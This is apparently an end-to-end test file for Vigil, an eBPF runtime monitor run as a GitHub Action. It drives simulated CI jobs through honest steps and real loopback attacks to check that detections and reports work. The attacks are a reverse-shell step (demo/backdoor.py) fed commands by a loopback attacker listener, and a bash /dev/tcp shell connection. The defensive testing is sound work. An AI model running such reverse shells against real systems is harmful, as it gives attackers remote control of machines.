// The action end to end: main and post under a simulated runner, around real attacks (a
// reverse shell to a loopback listener) and honest steps, with the real vigil and eBPF.
"use strict";

const assert = require("node:assert/strict");
const crypto = require("node:crypto");
const fs = require("node:fs");
const http = require("node:http");
const path = require("node:path");
const { spawn } = require("node:child_process");
const { EventEmitter } = require("node:events");
const { test } = require("node:test");
const { SimulatedRunner, REPO, VIGIL, privileged, sarifErrors } = require("./simulated-runner");

const skip = !privileged() && "needs root (eBPF)";

/** What the attacker process runs: listen on loopback, print the port, send the script to
 * whoever connects, print what came back (JSON) when the connection closes, and exit. */
const LISTENER = `
const net = require("node:net");
const script = process.argv[1];
const server = net.createServer((conn) => {
  let got = "";
  conn.on("data", (d) => (got += d));
  conn.on("close", () => { process.stdout.write(JSON.stringify(got) + "\\n"); server.close(); });
  conn.on("error", () => {});
  conn.write(script);
});
server.listen(0, "127.0.0.1", () => process.stdout.write(server.address().port + "\\n"));
`;

/** The attacker: a loopback listener that sends `script` to whoever connects and keeps the
 * answer. It runs in a process of its own, as a real attacker's would: were the simulated
 * runner itself listening, every step it starts would look like a shell started by a network
 * service (VGL-0056). Emits "transcript"; `address().port` and `close()` as a net.Server. */
function attacker(script) {
  const child = spawn(process.execPath, ["-e", LISTENER, script], { stdio: ["ignore", "pipe", "inherit"] });
  const server = new EventEmitter();
  let out = "";
  let port = null;
  server.address = () => ({ port });
  server.close = () => child.kill();
  child.on("exit", () => server.emit("transcript", JSON.parse(out.split("\n")[1] || '""')));
  return new Promise((resolve, reject) => {
    child.on("error", reject);
    child.stdout.on("data", (d) => {
      out += d;
      if (port === null && out.includes("\n")) {
        port = Number(out.split("\n")[0]);
        resolve(server);
      }
    });
  });
}

function findingsIn(file) {
  return fs
    .readFileSync(file, "utf8")
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l));
}

test("a reverse shell fails the job; the honest step stays clean; reports and outputs", { skip }, async (t) => {
  const job = new SimulatedRunner("attack", { "vigil-path": VIGIL, "egress-allow": "*.allowed.test\n10.0.0.0/8" });
  t.after(() => t.diagnostic(job.transcript()));
  const main = await job.main();
  assert.equal(main.code, 0, "main arms vigil");
  assert.equal(job.outputs().status, "armed");

  const honest = await job.step("python3 demo/app.py");
  assert.equal(honest.code, 0);
  const server = await attacker("echo action-e2e-$((6*7)); exit\n");
  const transcript = new Promise((resolve) => server.once("transcript", resolve));
  const port = server.address().port;
  await job.step(`python3 demo/backdoor.py 127.0.0.1 ${port}`);
  assert.match(await transcript, /action-e2e-42/, "the shell really ran over the socket");
  server.close();

  const post = await job.post();
  assert.equal(post.code, 1, "post fails the job");
  const outputs = job.outputs();
  assert.equal(outputs.status, "armed");
  assert.equal(outputs["findings-count"], "1");
  assert.match(post.stdout, /^::error title=Vigil VGL-0001 Standard input\/output over socket \(high\)::.* in step __run_2: /m);
  assert.match(post.stdout, /^::error::Vigil: 1 finding\(s\) at or above fail-on/m);

  const findings = findingsIn(outputs["findings-file"]);
  assert.equal(findings.length, 1, "one finding, none from the honest step");
  assert.equal(findings[0].signature.id, "VGL-0001");
  assert.deepEqual(findings[0].process.step, { action: "__run_2", job: "build", workflow: "ci", run_id: "4242" });

  const summary = job.summary();
  assert.match(summary, /## Vigil: \*\*1 finding\(s\)\*\*, 1 at or above `medium`/);
  assert.match(summary, /\| ✅ armed \| 1 \|/);
  assert.match(summary, /#### Step `__run_2` \(job `build`\)/);
  assert.match(summary, /ancestry: `python3\(\d+\) <- node\(\d+\)/);
  assert.ok(summary.includes(`evidence: \`remote=127.0.0.1:${port} `), summary);
  assert.ok(summary.includes(`| \`__run_2\` | address | \`127.0.0.1:${port}\` | 1 | \`python3\` | ⚠️ outside |`), summary);
  assert.match(summary, /\| VGL-0001 \| Standard input\/output over socket \| 1\.0\.0 \| high \|/);

  const sarif = JSON.parse(fs.readFileSync(outputs["sarif-file"], "utf8"));
  assert.equal(sarif.runs[0].results[0].ruleId, "VGL-0001");
  assert.equal(
    sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri,
    ".github/workflows/ci.yml",
  );
  assert.equal(await sarifErrors(outputs["sarif-file"]), null);
});

test("an honest job passes with an empty report", { skip }, async (t) => {
  const sarifFile = path.join(fs.mkdtempSync("/tmp/vigil-sarif-"), "out.sarif");
  const job = new SimulatedRunner("honest", { "vigil-path": VIGIL, "sarif-file": sarifFile });
  t.after(() => t.diagnostic(job.transcript()));
  assert.equal((await job.main()).code, 0);
  assert.equal((await job.step("python3 demo/app.py")).code, 0);
  const post = await job.post();
  assert.equal(post.code, 0, "nothing to fail on");
  assert.doesNotMatch(post.stdout, /::error/);
  const outputs = job.outputs();
  assert.equal(outputs.status, "armed");
  assert.equal(outputs["findings-count"], "0");
  assert.equal(outputs["sarif-file"], sarifFile);
  assert.match(job.summary(), /## Vigil: no findings/);
  assert.equal(await sarifErrors(sarifFile), null);
});

test("the daemon killed mid-job: post fails with status down, unless allow-degraded", { skip }, async (t) => {
  for (const allowDegraded of ["false", "true"]) {
    const job = new SimulatedRunner("killed", { "vigil-path": VIGIL, "allow-degraded": allowDegraded });
    t.after(() => t.diagnostic(job.transcript()));
    assert.equal((await job.main()).code, 0);
    await job.step("python3 demo/app.py");
    process.kill(job.daemonPid(), "SIGKILL");
    await job.step("python3 demo/app.py");
    const post = await job.post();
    assert.equal(job.outputs().status, "down");
    assert.match(post.stdout, /^::error title=Vigil was down::the daemon \(pid \d+\) died or was killed/m);
    assert.match(job.summary(), /Vigil was \*\*down\*\*/);
    if (allowDegraded === "true") {
      assert.equal(post.code, 0, "allowed");
      assert.match(post.stdout, /^::warning::Vigil was down \(allow-degraded\)/m);
    } else {
      assert.equal(post.code, 1, "down fails the job");
      assert.match(post.stdout, /^::error::Vigil was down: this job was not fully watched/m);
    }
  }
});

test("a last step stops Vigil to get the SARIF within the job; post reports the same outcome", { skip }, async (t) => {
  const job = new SimulatedRunner("explicit-stop", { "vigil-path": VIGIL });
  t.after(() => t.diagnostic(job.transcript()));
  assert.equal((await job.main()).code, 0);
  await job.step("python3 demo/app.py");
  const sarif = path.join(job.dir, "early.sarif");
  const stop = await job.step(`"$VIGIL_BIN" stop --state "$VIGIL_STATE_DIR" --sarif ${sarif}`);
  assert.equal(stop.code, 0, "an honest job");
  assert.equal(await sarifErrors(sarif), null);
  const post = await job.post();
  assert.equal(post.code, 0);
  assert.equal(job.outputs().status, "armed");
  assert.match(post.stderr, /an earlier `vigil stop` ended the daemon; reporting its outcome again/);
});

test("a plugin from a loopback URL in `plugins` is loaded and judges the job", { skip }, async (t) => {
  const wasm = path.join(REPO, "target", "signatures-extra", "shell-connect.wasm");
  assert.ok(fs.existsSync(wasm), `${wasm} missing: run make extra-signatures`);
  const bytes = fs.readFileSync(wasm);
  const pin = crypto.createHash("sha256").update(bytes).digest("hex");
  const files = http.createServer((req, res) => {
    if (req.url === "/shell-connect.wasm") {
      res.end(bytes);
    } else {
      res.statusCode = 404;
      res.end();
    }
  });
  await new Promise((resolve) => files.listen(0, "127.0.0.1", resolve));
  t.after(() => files.close());
  const url = `http://127.0.0.1:${files.address().port}/shell-connect.wasm`;
  const job = new SimulatedRunner("plugin", { "vigil-path": VIGIL, plugins: `${url}#sha256=${pin}` });
  t.after(() => t.diagnostic(job.transcript()));
  assert.equal((await job.main()).code, 0);
  const server = await attacker("");
  // A shell connecting by itself: what VGL-0101 (the plugin) looks for.
  await job.step(`exec 3<>/dev/tcp/127.0.0.1/${server.address().port}; echo hello >&3; exec 3>&-`);
  server.close();
  const post = await job.post();
  assert.equal(post.code, 1, "the plugin's finding (medium) fails the job");
  const findings = findingsIn(job.outputs()["findings-file"]);
  const found = findings.filter((f) => f.signature.id === "VGL-0101");
  assert.equal(found.length, 1, JSON.stringify(findings));
  assert.equal(found[0].process.step.action, "__run_1");
  assert.match(job.summary(), new RegExp(`\\| VGL-0101 \\| Shell opened a network connection \\| .* \\| \`${url}\` \\| active \\|`));
});

test("bad inputs fail the main step with the input named", { skip }, async (t) => {
  const job = new SimulatedRunner("bad-input", { "vigil-path": VIGIL, "allow-degraded": "perhaps" });
  t.after(() => t.diagnostic(job.transcript()));
  const main = await job.main();
  assert.equal(main.code, 1);
  assert.match(main.stderr + main.stdout, /input allow-degraded: expected true or false, got "perhaps"/);
  const bad = new SimulatedRunner("bad-egress", { "vigil-path": VIGIL, "egress-allow": "not a host" });
  t.after(() => t.diagnostic(bad.transcript()));
  const started = await bad.main();
  assert.equal(started.code, 1);
  assert.match(started.stdout, /^::error::Vigil could not start, so this job is not watched: /m);
  assert.match(started.stderr, /--egress-allow "not a host": not a host name/);
  const post = await bad.post();
  assert.equal(post.code, 1, "a job that was never watched fails");
  assert.equal(bad.outputs().status, "down");
  assert.match(post.stdout, /^::error title=Vigil was down::no Vigil daemon ever ran/m);
  assert.doesNotMatch(post.stdout, /left no result/);
});

test("without vigil-path, the action builds vigil from its own source", { skip }, async (t) => {
  // The repository's own target dir: an incremental, usually no-op, build.
  const job = new SimulatedRunner("build", {});
  t.after(() => t.diagnostic(job.transcript()));
  const main = await job.main({ CARGO_TARGET_DIR: path.join(REPO, "target") });
  assert.equal(main.code, 0);
  assert.match(main.stdout, /this action lists no released vigil binaries yet/);
  assert.match(main.stdout, /building vigil from source/);
  await job.step("python3 demo/app.py");
  const post = await job.post();
  assert.equal(post.code, 0);
  assert.equal(job.outputs().status, "armed");
});
